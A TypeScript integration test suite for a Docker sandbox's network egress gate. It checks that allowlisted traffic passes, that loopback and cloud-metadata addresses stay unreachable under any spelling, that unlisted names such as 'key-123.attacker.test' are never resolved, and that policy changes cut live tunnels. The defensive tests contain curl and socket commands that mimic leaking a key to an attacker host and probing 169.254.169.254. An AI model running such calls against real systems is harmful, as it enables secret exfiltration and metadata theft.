import Docker from 'dockerode'
import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import { createServer as createTcpServer, type Server as TcpServer, type Socket } from 'node:net'
import { networkInterfaces } from 'node:os'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { requireDocker } from '../../testing/sandbox/index.ts'
import { type Box, dockerProvider, type EgressAttempt, type EgressGate, egressGate, isProxyRequest } from '../index.ts'
import type { SandboxProvider } from '../index.ts'

const own = Object.values(networkInterfaces())
  .flat()
  .find((one) => one?.family === 'IPv4' && !one.internal)?.address

const portOf = (server: Server | TcpServer): number => {
  const address = server.address()
  return typeof address === 'object' && address !== null ? address.port : 0
}

describe.runIf((await requireDocker()) && own !== undefined)('the way out of a box', () => {
  let provider: SandboxProvider
  let box: Box
  let gate: EgressGate
  let web: Server
  let echo: TcpServer
  const attempts: EgressAttempt[] = []
  const lookups: string[] = []
  const names: Record<string, string[]> = {
    'good.test': [own ?? ''],
    'rebound.test': ['127.0.0.1'],
    'cloud.test': ['169.254.169.254'],
  }

  beforeAll(async () => {
    web = createServer((request, response) => {
      const seen = [
        request.method,
        request.url,
        request.headers.host?.split(':')[0],
        request.headers['proxy-connection'],
      ]
      request.resume().on('end', () => response.end(`${seen.join(' ')}\n`))
    }).listen(0, '0.0.0.0')
    echo = createTcpServer((socket: Socket) => socket.on('error', () => undefined).pipe(socket)).listen(0, '0.0.0.0')
    await Promise.all([once(web, 'listening'), once(echo, 'listening')])
    gate = egressGate({
      onAttempt: (attempt) => attempts.push(attempt),
      resolve: async (host) => {
        lookups.push(host)
        return names[host] ?? Promise.reject(new Error('no such name'))
      },
    })
    provider = dockerProvider()
    const socket = await provider.openModelSocket()
    socket.serve({
      request: (request, response) =>
        isProxyRequest(request) ? gate.request(request, response) : void response.end('the model\n'),
      connect: (request, socket, head) => gate.connect(request, socket, head),
    })
    const image = await provider.ensureImage({ kind: 'paddock-base' })
    const egress = { allow: ['good.test'] }
    box = await provider.createBox({ image, profile: 'user', labels: { role: 'probe' }, modelPath: { socket }, egress })
  })
  afterAll(async () => {
    gate.close()
    await provider.close()
    web.close().closeAllConnections()
    echo.close()
  })
  beforeEach(() => {
    attempts.length = 0
    lookups.length = 0
    gate.set({ allow: ['good.test', `${own}/32`, 'rebound.test', 'cloud.test', '127.0.0.0/8', '169.254.0.0/16'] })
  })

  const sh = async (command: string): Promise<string> =>
    Buffer.from((await box.exec({ command, timeoutMs: 60_000 })).stdout).toString()

  it('carries plain requests and tunnels to what is allowed, and tells each', async () => {
    const url = `http://good.test:${portOf(web)}`
    expect(await sh(`curl -sS ${url}/a?b=1`)).toBe('GET /a?b=1 good.test \n')
    expect(await sh(`curl -sS -d body ${url}/`)).toBe('POST / good.test \n')
    expect(await sh(`curl -sS -p ${url}/tunnel`)).toBe('GET /tunnel good.test \n')
    expect(await sh(`curl -sS -p http://${own}:${portOf(web)}/ip`)).toBe(`GET /ip ${own} \n`)
    const told = { port: portOf(web), allowed: true, rule: `${own}/32` }
    expect(attempts).toEqual([
      ...Array.from({ length: 3 }, () => ({ ...told, host: 'good.test' })),
      { ...told, host: own },
    ])
  })

  it('leaves the model path direct', async () => {
    expect(await sh(`curl -sS ${box.modelUrl}/v1/models`)).toBe('the model\n')
    expect(attempts).toEqual([])
  })

  it('reaches no loopback and no metadata address by any name or spelling', async () => {
    const port = portOf(web)
    const targets = ['rebound.test', 'cloud.test', '127.0.0.1', '[::1]', '[::ffff:127.0.0.1]', '169.254.169.254']
    const bypass = "--noproxy ''"
    for (const target of targets) {
      for (const how of ['', '-p']) {
        const answer = await sh(`curl -sS -m 30 ${bypass} ${how} http://${target}:${port}/ 2>&1`)
        expect(answer).not.toContain('GET /')
      }
    }
    expect(attempts).toHaveLength(targets.length * 2)
    expect(attempts.filter(({ allowed }) => allowed)).toEqual([])
  })

  it('never asks a name server for what no rule names', async () => {
    expect(
      await sh(`curl -sS http://key-123.attacker.test/ 2>&1; curl -sS https://key-123.attacker.test/ 2>&1`),
    ).toContain('no rule')
    expect(lookups).toEqual([])
    expect(attempts.map(({ host, allowed, rule }) => [host, allowed, rule])).toEqual([
      ['key-123.attacker.test', false, 'no rule'],
      ['key-123.attacker.test', false, 'no rule'],
    ])
  })

  it('follows a new policy at once, also for tunnels that are open', async () => {
    const held = Promise.withResolvers<void>()
    const script = `import os, socket, sys
s = socket.create_connection(('127.0.0.1', ${new URL(box.modelUrl ?? '').port}))
s.sendall(b'CONNECT good.test:${portOf(echo)} HTTP/1.1\\r\\n\\r\\n')
assert b' 200 ' in s.recv(1000)
s.sendall(b'ping'); assert s.recv(10) == b'ping'
print('held', flush=True)
print('cut' if s.recv(10) == b'' else 'alive', flush=True)`
    const tunnel = box.exec({ command: ['python3', '-c', script], onStdout: () => held.resolve(), timeoutMs: 60_000 })
    await held.promise
    gate.set('none')
    expect(Buffer.from((await tunnel).stdout).toString()).toBe('held\ncut\n')
    expect(await sh(`curl -sS http://good.test:${portOf(web)}/ 2>&1`)).toContain('(none)')
    gate.set({ allow: [`good.test:${portOf(web)}`, own ?? ''] })
    expect(await sh(`curl -sS http://good.test:${portOf(web)}/`)).toContain('GET /')
  })

  it('carries programs that know of no proxy: by name, by address, on any port, TCP only', async () => {
    expect(box.wayOut).toBe('transparent')
    const direct = "curl -sS -m 30 --noproxy '*'"
    expect(await sh(`${direct} http://good.test:${portOf(web)}/t 2>&1`)).toBe('GET /t good.test \n')
    expect(await sh(`${direct} http://${own}:${portOf(web)}/ip 2>&1`)).toBe(`GET /ip ${own} \n`)
    const raw = `import socket
s = socket.create_connection(('good.test', ${portOf(echo)})); s.sendall(b'x' * 300000); s.shutdown(1); n = 0
while d := s.recv(65536): n += len(d)
print(n)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(30); u.connect(('${own}', 9)); u.send(b'x')
try: u.send(b'x'); print(u.recv(9))
except OSError as e: print(type(e).__name__)`
    expect(await sh(`python3 -c "${raw}" 2>&1`)).toBe('300000\nConnectionRefusedError\n')
    expect(attempts.map(({ host, port, allowed }) => [host, port, allowed])).toEqual([
      ['good.test', portOf(web), true],
      [own, portOf(web), true],
      ['good.test', portOf(echo), true],
    ])
  })

  it('resets what may not be reached and answers no name that no rule knows, and tells each', async () => {
    const attempt = `import socket
for to in ('169.254.169.254', 80), ('10.0.0.1', 22), ('8.8.8.8', 443), ('rebound.test', 80):
  try: s = socket.create_connection(to, 30); s.settimeout(30); print(to[0], s.recv(1))
  except OSError as e: print(to[0], type(e).__name__)
for name in 'key-123.attacker.test', 'unknown.good.test':
  try: print(socket.getaddrinfo(name, 80))
  except OSError as e: print(name, e.errno)
print(socket.getaddrinfo('good.test', 80, socket.AF_INET)[0][4][0])`
    expect(await sh(`python3 -c "${attempt}"`)).toBe(
      [
        ...['169.254.169.254', '10.0.0.1', '8.8.8.8', 'rebound.test'].map((to) => `${to} ConnectionResetError`),
        'key-123.attacker.test -2',
        'unknown.good.test -2',
        '198.18.0.2',
        '',
      ].join('\n'),
    )
    expect(lookups.filter((name) => !['good.test', 'rebound.test'].includes(name))).toEqual([])
    expect(attempts).toEqual([
      { host: '169.254.169.254', port: 80, allowed: false, rule: 'metadata address' },
      { host: '10.0.0.1', port: 22, allowed: false, rule: 'no rule' },
      { host: '8.8.8.8', port: 443, allowed: false, rule: 'no rule' },
      { host: 'rebound.test', port: 80, allowed: false, rule: 'loopback address' },
      { host: 'key-123.attacker.test', port: 53, allowed: false, rule: 'no rule' },
      { host: 'unknown.good.test', port: 53, allowed: false, rule: 'no rule' },
    ])
  })

  it('answers any resolver that a program may ask, over UDP and TCP, and leaves servers inside alone', async () => {
    const dig = (how: string): string => `import socket, struct
q = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4good\\4test\\0\\0\\1\\0\\1'
${how}
print(a[:2].hex(), a[3] & 15, '.'.join(map(str, a[-4:])))`
    const udp = `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(30); s.sendto(q, ('9.9.9.9', 53))
a, peer = s.recvfrom(4096); print(peer)`
    expect(await sh(`python3 -c "${dig(udp)}" 2>&1`)).toBe("('9.9.9.9', 53)\n1234 0 198.18.0.2\n")
    const tcp = `s = socket.create_connection(('198.18.0.1', 53)); s.sendall(struct.pack('>H', len(q)) + q); a = s.recv(4096)[2:]`
    expect(await sh(`python3 -c "${dig(tcp)}" 2>&1`)).toBe('1234 0 198.18.0.2\n')
    const inside = `cd /tmp && (python3 -m http.server 80 >/dev/null 2>&1 & echo $! > pid; for i in $(seq 1000); do
      curl -sS --noproxy '*' -o /dev/null -w '%{http_code}\\n' http://127.0.0.1/ 2>/dev/null && break; sleep 0.05; done)`
    expect(await sh(inside)).toContain('200')
    expect(attempts).toEqual([])
  })

  it('is made by a relay that has no right left when the box starts', async () => {
    const docker = new Docker()
    const { NetworkMode } = (await docker.getContainer(box.id).inspect()).HostConfig
    const { Pid } = (await docker.getContainer(NetworkMode?.replace('container:', '') ?? '').inspect()).State
    const status = await readFile(`/proc/${Pid}/status`, 'utf8')
    expect(status).toMatch(/Uid:\s+65532\s+65532\s+65532\s+65532/)
    expect(status).toMatch(/CapPrm:\s+0+\n/)
    expect(await sh('curl -sS -m 2 http://127.0.0.1:1/ 2>&1; hostname -i; getent hosts box | head -1')).toContain(
      '127.0.0.1',
    )
  })

  it('cuts and refuses transparent connections too when the policy changes', async () => {
    const held = Promise.withResolvers<void>()
    const script = `import socket
s = socket.create_connection(('good.test', ${portOf(echo)})); s.sendall(b'ping'); s.recv(10); print('held', flush=True)
try: print(s.recv(10))
except OSError: print('cut')
try: socket.create_connection(('good.test', ${portOf(echo)}))
except OSError as e: print(e.errno)`
    const tunnel = box.exec({ command: ['python3', '-c', script], onStdout: () => held.resolve(), timeoutMs: 60_000 })
    await held.promise
    gate.set('none')
    expect(Buffer.from((await tunnel).stdout).toString()).toMatch(/^held\n(b''|cut)\n-2\n$/)
  })

  it('tells a target that does not answer from one that is refused', async () => {
    const closed = createTcpServer().listen(0, '0.0.0.0')
    await once(closed, 'listening')
    const port = portOf(closed)
    await new Promise((resolve) => closed.close(resolve))
    expect(await sh(`curl -s -o /dev/null -w '%{http_code}' http://good.test:${port}/`)).toBe('502')
    expect(await sh(`curl -s -o /dev/null -w '%{http_connect}' -p http://good.test:${port}/`)).toBe('502')
    expect(await sh(`curl -s -o /dev/null -w '%{http_code}' http://unknown.test/`)).toBe('403')
  })
})
